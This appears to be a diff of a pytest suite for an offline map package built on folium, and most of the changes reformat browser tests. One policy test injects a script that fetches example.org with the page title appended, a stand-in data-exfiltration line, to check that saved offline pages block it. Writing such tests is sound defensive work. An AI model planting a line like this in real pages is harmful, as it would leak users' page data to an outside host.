@@ -5,6 +5,7 @@ import re
 import folium
 import pytest
 from folium import plugins
+from folium.raster_layers import ImageOverlay
 
 from zjk_gis.errors import FileError, InputError
 from zjk_gis.maps import base_map, city_map, offline_frame, save_offline
@@ -72,7 +73,9 @@ class TestMarksAndControls:
         folium.Marker((40.82, 114.89), icon=folium.Icon("red", icon="home", prefix="fa")).add_to(page)
         folium.Marker((40.82, 114.90), icon=folium.Icon("green")).add_to(page)
         seen = show(page)
-        pictures = seen.page.evaluate("() => [...document.images].map(i => [i.src.slice(0, 5), i.naturalWidth > 0])")
+        pictures = seen.page.evaluate(
+            "() => [...document.images].map(i => [i.src.slice(0, 5), i.naturalWidth > 0])"
+        )
         assert pictures
         assert {tuple(each) for each in pictures} == {("data:", True)}
         for font in ('900 14px "Font Awesome 6 Free"', "14px 'Glyphicons Halflings'"):
@@ -85,7 +88,9 @@ class TestMarksAndControls:
         first, second = folium.FeatureGroup("责任区").add_to(page), folium.FeatureGroup("案件").add_to(page)
         folium.Circle(HERE, 300).add_to(first)
         folium.Circle(HERE, 900).add_to(second)
-        plugins.GroupedLayerControl({"专题": [first, second]}, exclusive_groups=False, collapsed=False).add_to(page)
+        plugins.GroupedLayerControl(
+            {"专题": [first, second]}, exclusive_groups=False, collapsed=False
+        ).add_to(page)
         seen = show(page)
         assert "专题" in seen.page.inner_text(".leaflet-control-layers")
         before = layers(seen, page)
@@ -120,12 +125,14 @@ class TestMarksAndControls:
         plugins.HeatMap(POINTS).add_to(page)
         seen = show(page)
         painted = seen.page.evaluate(
-            "() => { const c = document.querySelector('canvas.leaflet-heatmap-layer'); const d = c.getContext('2d', "
-            "{willReadFrequently: true}).getImageData(0, 0, c.width, c.height).data; "
+            "() => { const c = document.querySelector('canvas.leaflet-heatmap-layer'); "
+            "const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data; "
             "return d.filter((v, i) => i % 4 === 3 && v > 0).length; }"
         )
         assert painted > 1000
-        seen.errors[:] = [text for text in seen.errors if "willReadFrequently" not in text]  # this test reads it
+        seen.errors[:] = [
+            text for text in seen.errors if "willReadFrequently" not in text
+        ]  # this test reads it
 
     def test_a_distance_is_measured(self, show):
         page = empty_map()
@@ -178,25 +185,33 @@ class TestMarksAndControls:
 class TestTime:
     def test_a_slider_of_marks_plays(self, show):
         page = empty_map()
-        plugins.TimestampedGeoJson(zones(), period="P1D", duration="P1D", auto_play=False, transition_time=200).add_to(page)
+        plugins.TimestampedGeoJson(
+            zones(), period="P1D", duration="P1D", auto_play=False, transition_time=200
+        ).add_to(page)
         seen = show(page)
         time = seen.page.locator(".timecontrol-date")
         assert "2025-01-01" in time.inner_text()
         seen.page.click(".timecontrol-play")
-        seen.page.wait_for_function("() => document.querySelector('.timecontrol-date').innerText.includes('2025-01-03')")
+        seen.page.wait_for_function(
+            "() => document.querySelector('.timecontrol-date').innerText.includes('2025-01-03')"
+        )
 
     def test_a_slider_of_colours_changes_them(self, show):
         colours = {
-            str(i): {str(1735689600 + 86400 * k): {"color": "#ff0000" if k else "#0000ff", "opacity": 0.7} for k in range(2)}
+            str(i): {
+                str(1735689600 + 86400 * k): {"color": "#ff0000" if k else "#0000ff", "opacity": 0.7}
+                for k in range(2)
+            }
             for i in range(3)
         }
         page = empty_map()
         plugins.TimeSliderChoropleth(zones(), styledict=colours).add_to(page)
         seen = show(page)
-        fills = "() => [...document.querySelectorAll('path.leaflet-interactive')].map(p => getComputedStyle(p).fill)"
+        fills = "() => [...document.querySelectorAll('path')].map(p => getComputedStyle(p).fill)"
         assert set(seen.page.evaluate(fills)) == {"rgb(0, 0, 255)"}
         seen.page.evaluate(
-            "() => { const s = document.querySelector('input[type=range]'); s.value = s.max; s.dispatchEvent(new Event('input')); }"
+            "() => { const s = document.querySelector('input[type=range]'); "
+            "s.value = s.max; s.dispatchEvent(new Event('input')); }"
         )
         assert set(seen.page.evaluate(fills)) == {"rgb(255, 0, 0)"}
 
@@ -205,7 +220,7 @@ class TestTime:
         line = plugins.Timeline(zones()).add_to(page)
         plugins.TimelineSlider(auto_play=False, playback_duration=1500).add_timelines(line).add_to(page)
         seen = show(page)
-        places = "() => [...document.querySelectorAll('path.leaflet-interactive')].map(p => p.getAttribute('d')).join()"
+        places = "() => [...document.querySelectorAll('path')].map(p => p.getAttribute('d')).join()"
         before = seen.page.evaluate(places)
         seen.page.click(".leaflet-timeline-control button.play")
         seen.page.wait_for_function(f"before => ({places})() !== before", arg=before)
@@ -213,11 +228,15 @@ class TestTime:
 
 @pytest.mark.browser
 class TestSearching:
-    @pytest.mark.parametrize(("column", "text", "whole"), [("编号", "Z00", "Z002"), ("名称", "明德", "明德北街三号")])
+    @pytest.mark.parametrize(
+        ("column", "text", "whole"), [("编号", "Z00", "Z002"), ("名称", "明德", "明德北街三号")]
+    )
     def test_codes_and_chinese_names_are_found(self, show, column, text, whole):
         page = empty_map()
         areas = folium.GeoJson(zones()).add_to(page)
-        plugins.Search(areas, search_label=column, geom_type="Polygon", collapsed=False, search_zoom=16).add_to(page)
+        plugins.Search(
+            areas, search_label=column, geom_type="Polygon", collapsed=False, search_zoom=16
+        ).add_to(page)
         seen = show(page)
         seen.page.click("input.search-input")
         seen.page.keyboard.type(text)
@@ -228,7 +247,9 @@ class TestSearching:
         seen.page.fill("input.search-input", whole)
         seen.page.keyboard.press("Enter")
         seen.page.wait_for_function(f"() => {page.get_name()}.getZoom() === 16", timeout=10_000)
-        assert seen.page.evaluate(f"() => {page.get_name()}.getCenter().lng") == pytest.approx(114.889, abs=1e-3)
+        assert seen.page.evaluate(f"() => {page.get_name()}.getCenter().lng") == pytest.approx(
+            114.889, abs=1e-3
+        )
 
 
 @pytest.mark.browser
@@ -238,7 +259,9 @@ class TestTwoMaps:
         folium.Marker(HERE).add_to(page)
         folium.Circle(HERE, 500).add_to(page.m1)
         seen = show(page)
-        seen.page.evaluate(f"() => {{ {page.m1.get_name()}.setView([40.9, 114.9], 12, {{ animate: false }}); }}")
+        seen.page.evaluate(
+            f"() => {{ {page.m1.get_name()}.setView([40.9, 114.9], 12, {{ animate: false }}); }}"
+        )
         seen.page.wait_for_timeout(300)
         other = seen.page.evaluate(f"() => {page.m2.get_name()}.getCenter()")
         assert (other["lat"], other["lng"]) == pytest.approx((40.9, 114.9), abs=1e-3)
@@ -246,7 +269,10 @@ class TestTwoMaps:
 
     def test_a_swipe_shows_more_of_one(self, show):
         page = empty_map()
-        left, right = base_map("none", name="变更前").add_to(page), base_map("none", name="变更后").add_to(page)
+        left, right = (
+            base_map("none", name="变更前").add_to(page),
+            base_map("none", name="变更后").add_to(page),
+        )
         plugins.SideBySideLayers(left, right).add_to(page)
         seen = show(page)
         clips = f"() => [{left.get_name()}, {right.get_name()}].map(l => l.getContainer().style.clip)"
@@ -267,13 +293,17 @@ class TestNotebooks:
         folium.Marker(HERE).add_to(page)
         path = tmp_path / "notebook.html"
         path.write_text(
-            "<!DOCTYPE html><body><script>window.secret = 1</script>" + offline_frame(page)._repr_html_(), "utf-8"
+            "<!DOCTYPE html><body><script>window.secret = 1</script>" + offline_frame(page)._repr_html_(),
+            "utf-8",
         )
         seen = visit(path, ready="document.querySelector('iframe')")
         seen.page.wait_for_timeout(1500)
         frame = seen.page.frames[1]
         assert frame.locator("img.leaflet-marker-icon").count() == 1
-        assert frame.evaluate("() => { try { return parent.secret; } catch (error) { return error.name; } }") == "SecurityError"
+        assert (
+            frame.evaluate("() => { try { return parent.secret; } catch (error) { return error.name; } }")
+            == "SecurityError"
+        )
         assert (seen.errors, seen.requests) == ([], [])
 
     def test_a_height_is_asked_for(self):
@@ -286,7 +316,9 @@ class TestNotebooks:
 class TestThePolicy:
     def test_a_script_that_would_send_the_data_away_cannot(self, visit, tmp_path):
         page = empty_map()
-        page.get_root().script.add_child(folium.Element("fetch('https://example.org/?' + document.title).catch(() => 0);"))
+        page.get_root().script.add_child(
+            folium.Element("fetch('https://example.org/?' + document.title).catch(() => 0);")
+        )
         seen = visit(save_offline(page, tmp_path / "map.html"), ready=f"window.{page.get_name()}")
         seen.page.wait_for_timeout(300)
         assert seen.requests == []
@@ -316,16 +348,16 @@ class TestWhatIsNotAtHand:
         ("make", "words"),
         [
             (folium.Map, "tiles=None"),
-            (lambda: with_child(folium.FeatureGroup().add_child(folium.TileLayer("OpenStreetMap"))), "base map of tiles"),
+            (lambda: with_child(folium.FeatureGroup().add_child(folium.TileLayer())), "base map of tiles"),
             (lambda: with_child(plugins.MiniMap()), "base map of tiles"),
             (lambda: plugins.DualMap(HERE), "base map of tiles"),
             (lambda: with_child(folium.WmsTileLayer("http://a/wms", "roads")), "WmsTileLayer, which fetches"),
             (lambda: with_child(plugins.Geocoder()), "Geocoder, which asks a search server"),
             (lambda: with_child(plugins.LocateControl()), "LocateControl, which asks the browser"),
             (lambda: with_child(plugins.Realtime("http://a/b.json")), "Realtime, which fetches"),
-            (lambda: with_child(plugins.FloatImage("https://a/logo.png")), "https://a/logo.png is not in the page"),
+            (lambda: with_child(plugins.FloatImage("https://a/logo.png")), "a/logo.png is not in the page"),
             (
-                lambda: with_child(folium.raster_layers.ImageOverlay("https://a/b.png", [[40, 114], [41, 115]])),
+                lambda: with_child(ImageOverlay("https://a/b.png", [[40, 114], [41, 115]])),
                 "https://a/b.png is not in the page",
             ),
             (lambda: with_popup("<img src='https://a/photo.jpg'>"), "<img> https://a/photo.jpg"),
@@ -334,7 +366,7 @@ class TestWhatIsNotAtHand:
                 lambda: with_popup(folium.Popup(folium.IFrame('<img src="https://a/b.jpg">', 9, 9))), "<img> https://a/b.jpg"
             ),
             (lambda: with_icon(icon="github", prefix="fa-brands"), "icon .* of the font .*fa-brands-400"),
-            (lambda: with_icon(icon="fa-regular fa-bell", prefix="fa"), "icon .* of the font .*fa-regular-400"),
+            (lambda: with_icon(icon="fa-regular fa-bell", prefix="fa"), "of the font .*fa-regular-400"),
         ],
     )  # fmt: skip
     def test_it_is_named(self, tmp_path, make, words):
@@ -364,7 +396,10 @@ class TestWhatIsNotAtHand:
         (tmp_path / "own.js").write_text("window.own = '</script>';", "utf-8")
         (tmp_path / "own.css").write_text(".a { background: url(../a.png) }", "utf-8")
         (tmp_path / "a.png").write_bytes(b"\x89PNG")
-        files = {"https://example.org/own.js": tmp_path / "own.js", "https://example.org/css/own.css": tmp_path / "own.css"}
+        files = {
+            "https://example.org/own.js": tmp_path / "own.js",
+            "https://example.org/css/own.css": tmp_path / "own.css",
+        }
         with pytest.raises(InputError, match=r"needs https://example\.org/a\.png"):
             whole_page(page, assets=files)
         text = whole_page(page, assets=files | {"https://example.org/a.png": tmp_path / "a.png"})
